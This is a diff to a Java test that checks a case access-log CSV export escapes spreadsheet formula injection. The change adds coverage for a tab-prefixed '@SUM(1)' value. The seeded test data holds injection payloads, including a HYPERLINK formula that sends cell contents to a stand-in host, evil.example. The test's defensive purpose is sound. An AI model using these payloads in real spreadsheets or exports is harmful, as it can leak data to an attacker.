@@ -57,12 +57,12 @@ class PrivateAnswersTest {
     }
 
     @Test
-    void theAccessLogExportEscapesCellsASpreadsheetWouldRun() {
+    void theAccessLogExportEscapesCellsASpreadsheetWouldRun() { // a leading TAB was not escaped before
         String caseId = openCase("ana.csr", "Ceca", "Formula");
         QuarkusTransaction.requiringNew().run(() -> em.createNativeQuery("""
                         insert into personal_data_access (at, user_id, username, agency, roles, case_id, action, purpose)
                         values (now(), '-1+1', '=HYPERLINK("http://evil.example/?"&A1)', 'csr-kikinda', '+caseworker',
-                                :id, 'READ', '@SUM(1)')""")
+                                :id, 'READ', E'\\t@SUM(1)')""")
                 .setParameter("id", UUID.fromString(caseId)).executeUpdate());
         String csv = as("milica.supervisor").accept("text/csv").when().get("/api/v1/cases/" + caseId + "/access-log")
                 .then().statusCode(200)
@@ -70,7 +70,7 @@ class PrivateAnswersTest {
                         + caseId + ".csv")
                 .extract().asString();
         org.hamcrest.MatcherAssert.assertThat(csv, containsString("'=HYPERLINK("));
-        org.hamcrest.MatcherAssert.assertThat(csv, containsString("'@SUM(1)"));
+        org.hamcrest.MatcherAssert.assertThat(csv, containsString("'\t@SUM(1)"));
         org.hamcrest.MatcherAssert.assertThat(csv, containsString("'-1+1"));
         org.hamcrest.MatcherAssert.assertThat(csv, containsString("'+caseworker"));
         org.hamcrest.MatcherAssert.assertThat(csv, not(containsString(",=HYPERLINK")));
